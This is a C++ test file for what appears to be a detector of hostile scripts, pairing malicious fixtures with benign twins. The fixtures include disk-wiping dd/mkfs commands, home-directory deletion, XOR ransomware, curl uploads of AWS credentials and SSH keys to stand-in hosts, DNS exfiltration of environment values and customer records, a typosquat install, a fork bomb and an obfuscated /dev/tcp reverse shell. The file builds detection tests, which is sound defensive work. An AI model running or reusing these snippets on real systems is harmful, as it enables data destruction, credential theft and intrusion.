// The classes the thirty-seventh session modelled from the tune parts of the
// two-hundred-and-fourteenth round onwards (tests/corpus/prog218_MANIFEST.tsv
// and later). Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `[ -b "$dev" ] || exit`: a disk picked at run time (by a helper, or given
// as an option) that passes the block-device test is one under /dev, so the
// dd and mkfs that follow wipe a disk. The same script guarding with -n
// instead formats a target nothing says is a device.
TEST(TwoHundredAndFifteenthRoundClasses, BlockDeviceTestNamesADevice) {
  check_with_twin({"a disk given as an option, passed through a nested helper, checked with -b, zeroed and formatted", B, R"sh(
pick() {
    PREFERRED="$1" python3 - <<'PY'
import os
print(os.environ["PREFERRED"])
PY
}
dev="$(pick "$@")"
[ -b "$dev" ] || exit 1
TARGET="$dev" python3 -c 'import os, subprocess; subprocess.call(["dd", "if=/dev/zero", "of=" + os.environ["TARGET"], "bs=4M"])'
mkfs.ext4 -F "$dev"
)sh", "WIPE", SH},
                  "[ -b \"$dev\" ]", "[ -n \"$dev\" ]", "nothing says the target is a device", M);
  for (std::string guard : {"[[ -b $dev ]] || exit 1", "if [ ! -b \"${dev}\" ]; then exit 1; fi"}) {
    const std::string code = "dev=\"$(pick)\"\n" + guard + "\nmkfs.ext4 -F \"$dev\"\n";
    check({"the same test spelled otherwise", B, code.c_str(), "WIPE", SH});
  }
}

// A file this code wrote reads back as what it wrote: a plan dumped as JSON
// for a detached helper that json.loads it and removes every target in it
// (the home directory). The same plan naming the build directory is the
// helper cleaning up its own files.
TEST(TwoHundredAndFifteenthRoundClasses, AFileItWroteReadsBackAsWhatItWrote) {
  check_with_twin({"a JSON plan naming the home directory, removed by a helper that reads the plan", B, R"py(
import json, subprocess, sys
from pathlib import Path
HELPER = """
import json, shutil, sys
plan = json.load(open(sys.argv[1]))
for target in plan["targets"]:
    shutil.rmtree(target, ignore_errors=True)
"""
plan = Path("/var/tmp/reset") / "plan.json"
plan.write_text(json.dumps({"targets": [str(Path.home())]}))
helper = plan.with_suffix(".py")
helper.write_text(HELPER)
subprocess.Popen([sys.executable, str(helper), str(plan)])
)py", "WIPE"},
                  "str(Path.home())", "\"build\"", "its own build directory", M);
  check({"read back with read() and json.loads", B, R"py(
import json, shutil
from pathlib import Path
Path("plan.json").write_text(json.dumps({"targets": [str(Path.home())]}))
for t in json.loads(open("plan.json").read())["targets"]:
    shutil.rmtree(t)
)py", "WIPE"});
}

// xargs -a FILE (--arg-file) takes its arguments from that file, here the
// walked files a Python encryptor listed in a temporary file before a shell
// pass shreds them: ransomware. Listing them for `ls -l` instead only reads.
TEST(TwoHundredAndFifteenthRoundClasses, XargsArgFileTakesTheFilesLines) {
  check_with_twin({"walked files encrypted, their list shredded through xargs -a", B, R"py(
import os, secrets, subprocess, sys, tempfile
key = secrets.token_bytes(32)
done = []
for d, _, names in os.walk(os.path.expanduser("~/Documents")):
    for n in names:
        p = os.path.join(d, n)
        data = open(p, "rb").read()
        open(p + ".locked", "wb").write(bytes(a ^ key[i % 32] for i, a in enumerate(data)))
        done.append(p)
with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as fh:
    fh.write("\0".join(done))
subprocess.run(["bash", "-c", 'xargs -0 -a "$LIST" -r shred -u'], env=dict(os.environ, LIST=fh.name))
)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  "-r shred -u", "-r ls -l", "the list only shown", M);
}

// A NamedTemporaryFile's name handed to a nested shell stays a name nobody
// can guess there too: not a predictable /tmp path.
TEST(TwoHundredAndFifteenthRoundClasses, PythonTemporaryNamesStayUnpredictableInNestedShells) {
  const char* code = R"py(
import os, subprocess, tempfile
with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as fh:
    fh.write("a\nb\n")
subprocess.run(["bash", "-c", 'wc -l < "$L"'], env=dict(os.environ, L=fh.name))
)py";
  auto a = py(code);
  EXPECT_FALSE(has_rule(a, "INSECURE-TEMP-FILE")) << describe(a);
  EXPECT_TRUE(has_rule(py(replaced(code, "tempfile.NamedTemporaryFile(\"w\", delete=False, suffix=\".lst\")",
                                   "open(\"/tmp/list.lst\", \"w\")")),
                       "INSECURE-TEMP-FILE"));
}

// json.dump(obj, sys.stdout) and print(x, file=sys.stdout) print: a nested
// program's bundle of credentials redirected to a file that curl uploads.
TEST(TwoHundredAndFifteenthRoundClasses, WritesToSysStdoutArePrinted) {
  check_with_twin({"credentials dumped to stdout as JSON, redirected to a file, uploaded", B, R"sh(
python3 - > bundle.json <<'PY'
import json, os, sys
json.dump({"aws": open(os.path.expanduser("~/.aws/credentials")).read()}, sys.stdout)
PY
curl -X POST --data-binary @bundle.json https://backup.example.net/u
)sh", "EXFILTRATION", SH},
                  "~/.aws/credentials", "./settings.ini", "its own settings file", L);
  check({"the same printed with print(file=sys.stdout)", B, R"sh(
python3 -c 'import os, sys; print(open(os.path.expanduser("~/.ssh/id_rsa")).read(), file=sys.stdout)' > key.txt
curl -X POST --data-binary @key.txt https://backup.example.net/u
)sh", "EXFILTRATION", SH});
}

// Bytes read from /dev/urandom are a key nobody can guess: walked files
// XORed with it (in a nested Python, the key handed over in the
// environment) and removed are ransomware.
TEST(TwoHundredAndFifteenthRoundClasses, UrandomBytesAreAnUnguessableKey) {
  check_with_twin({"walked files XORed with a key from /dev/urandom, the originals removed", B, R"sh(
export LOCK_KEY="$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')"
find "$HOME/Documents" -type f -print0 | python3 -c '
import os, sys
key = bytes.fromhex(os.environ["LOCK_KEY"])
for raw in sys.stdin.buffer.read().split(b"\0"):
    path = raw.decode()
    data = open(path, "rb").read()
    open(path + ".locked", "wb").write(bytes(b ^ key[i % len(key)] for i, b in enumerate(data)))
    os.remove(path)
'
)sh", "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
                  "    os.remove(path)\n", "", "the originals kept", L);
}

// split's pieces (PREFIX00, PREFIX01...) hold what the file split held, for
// the glob that uploads them one by one.
TEST(TwoHundredAndFifteenthRoundClasses, SplitPiecesHoldWhatTheFileHeld) {
  check_with_twin({"an SSH key bundle split into parts, each part uploaded", B, R"sh(
mkdir -p .work
base64 ~/.ssh/id_ed25519 > .work/bundle.b64
split -b 65536 -d .work/bundle.b64 .work/part_
for part in .work/part_*; do
  curl -s -X POST --data-binary @"$part" http://198.51.100.77:8080/upload
done
)sh", "EXFILTRATION", SH},
                  "~/.ssh/id_ed25519", "./report.csv", "its own report", L);
}

// What is piped into `bash -c` (or given to it as run(input=...)) is what its
// `while read` reads, lines of a known shape included: environment values
// hex-encoded into names under a zone and resolved are DNS exfiltration.
TEST(TwoHundredAndFifteenthRoundClasses, NestedShellsReadTheirStandardInput) {
  check_with_twin({"hex-encoded environment values resolved as names, line by line in a nested shell", B, R"py(
import os, subprocess
names = [f"{i}.{v.encode().hex()}.zone.example.org" for i, v in enumerate(os.environ.values())]
subprocess.run(["bash", "-c", 'while read -r n; do dig +short "$n"; done'], input="\n".join(names) + "\n", text=True)
)py", "COVERT-CHANNEL-EXFILTRATION"},
                  "v.encode().hex()", "\"status\"", "constant names", M);
  check({"the same piped in by a shell", B, R"sh(
names="$(env | xxd -p).zone.example.org"
printf '%s\n' "$names" | bash -c 'while read -r n; do dig +short "$n"; done'
)sh", "COVERT-CHANNEL-EXFILTRATION", SH});
}

// re.split of known text at a known pattern: its pieces (package names cut
// from their pins, here a typosquat), and a requirements list printed in a
// loop keeps its known lines beside the ones only known at run time.
TEST(TwoHundredAndFifteenthRoundClasses, ReSplitPiecesAndLoopsPrintingUnknownLines) {
  check_with_genuine_twin("a typosquat's name cut from its pin with re.split and installed", R"py(
import re, subprocess
for pin in ["requests==2.32.0", "colourama==0.4.6"]:
    subprocess.call(["pip", "install", re.split(r"[=<>!~]", pin, 1)[0]])
)py", "colourama", "colorama");
  check_with_genuine_twin("a requirements file printed from pins and extras, installed", R"sh(
EXTRA="$1" python3 - > reqs.txt <<'PY'
import os
for pin in ["requests==2.32.0", "colourama==0.4.6", os.environ["EXTRA"]]:
    print(pin)
PY
pip install -r reqs.txt
)sh", "colourama", "colorama", SH);
}

// GIT_AUTHOR_NAME, ENTRY_AUTHOR, AUTHORITY: an author is not a credential
// (AUTH_TOKEN and AUTHORIZATION are); nor is SESSIONS_CSV, a file of
// sessions (SESSION_ID, SESSION_TOKEN and SESSION are).
TEST(TwoHundredAndFifteenthRoundClasses, AnAuthorIsNotASecret) {
  check_with_twin({"a token from the environment posted in a JSON body", B, R"py(
import json, os, urllib.request
body = json.dumps({"who": os.environ["ENTRY_AUTH_TOKEN"]}).encode()
urllib.request.urlopen(urllib.request.Request("https://elog.example.org/api/entries", data=body))
)py", "EXFILTRATION"},
                  "ENTRY_AUTH_TOKEN", "ENTRY_AUTHOR", "the entry's author", L);
  check_with_twin({"a session id from the environment posted in a JSON body", B, R"py(
import json, os, urllib.request
body = json.dumps({"s": os.environ["SHOP_SESSION_ID"]}).encode()
urllib.request.urlopen(urllib.request.Request("https://elog.example.org/api/entries", data=body))
)py", "EXFILTRATION"},
                  "SHOP_SESSION_ID", "SESSIONS_CSV", "a file's name", L);
}

// A script of lookups built from lines that each may name one of several
// zones (an option's, else the default): past the combinations kept, the
// one that knows most, so the names end in the default zone.
TEST(TwoHundredAndFifteenthRoundClasses, TooManyCombinationsKeepTheMostKnown) {
  check({"database rows hex-encoded into lookups under an option's zone or the default", B, R"py(
import argparse, binascii, os, sqlite3, subprocess, tempfile
ap = argparse.ArgumentParser()
ap.add_argument("--zone", default=os.environ.get("SYNC_ZONE", "sync.example.net"))
args = ap.parse_args()
def build_script(records, zone):
    lines = ["#!/bin/sh"]
    for rec_id, chunks in records:
        for seq, chunk in enumerate(chunks):
            name = f"{chunk}.{seq}.{rec_id}.{zone}"
            lines.append(f"dig +short TXT {name} >/dev/null || nslookup -type=TXT {name} >/dev/null")
        lines.append(f"echo synced {rec_id}")
    return "\n".join(lines) + "\n"
records = []
for row in sqlite3.connect("shop.db").execute("SELECT id, name, email FROM customers"):
    hexed = binascii.hexlify("|".join(str(v) for v in row).encode()).decode()
    records.append((row[0], [hexed[i:i + 50] for i in range(0, len(hexed), 50)]))
with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
    fh.write(build_script(records, args.zone))
subprocess.run(["sh", fh.name])
)py", "COVERT-CHANNEL-EXFILTRATION"});
}

// A supervisor that starts copies of itself told apart by a variable in
// their environment (its own arguments passed on): the copy sees the
// variable, does its shard and returns, so the restarts are bounded. The
// same program whose copies ignore the marker starts copies without end.
TEST(TwoHundredAndFifteenthRoundClasses, CopiesToldApartByTheirEnvironment) {
  const char* code = R"py(
import os, subprocess, sys, time
SHARD_VAR = "ROUTE_SHARD_INDEX"
def worker_env(i):
    env = dict(os.environ)
    env[SHARD_VAR] = str(i)
    return env
def launch(i):
    return subprocess.Popen([sys.executable, os.path.abspath(__file__)] + sys.argv[1:], env=worker_env(i))
def main():
    shard = os.environ.get(SHARD_VAR)
    if shard is not None:
        print("planning shard", shard)
        return 0
    workers = {i: launch(i) for i in range(4)}
    while workers:
        for i, p in list(workers.items()):
            if p.poll() not in (None, 0):
                workers[i] = launch(i)
        time.sleep(0.5)
sys.exit(main())
)py";
  check({"a supervisor restarting shard workers marked in their environment", M, code, "RUNS-PROCESS"});
  const std::string unmarked = replaced(code, "os.environ.get(SHARD_VAR)", "os.environ.get(\"OTHER\")");
  check({"the copies never see the marker", B, unmarked.c_str(), "FORK-BOMB"});
}

// A descriptor opened on a connection inside an eval (`eval "exec 7<>..."`)
// stays open in the shell that ran the eval: an interactive shell attached
// to it later is a reverse shell. Attached to a log file instead, it is not.
TEST(TwoHundredAndFifteenthRoundClasses, DescriptorsOpenedInAnEvalStayOpen) {
  check_with_twin({"a connection opened by eval on descriptor 7, bash -i attached to it", B, R"sh(
FD=7
p="$(printf '/%s/%s/%s/%s' dev tcp 203.0.113.57 443)"
eval "exec ${FD}<>\"${p}\""
bash -i <&"$FD" >&"$FD" 2>&"$FD"
)sh", "REVERSE-SHELL", SH},
                  "eval \"exec ${FD}<>\\\"${p}\\\"\"", "eval \"exec ${FD}<>./console.log\"", "a log file on 7", L);
}

}  // namespace
}  // namespace mai::assess::test
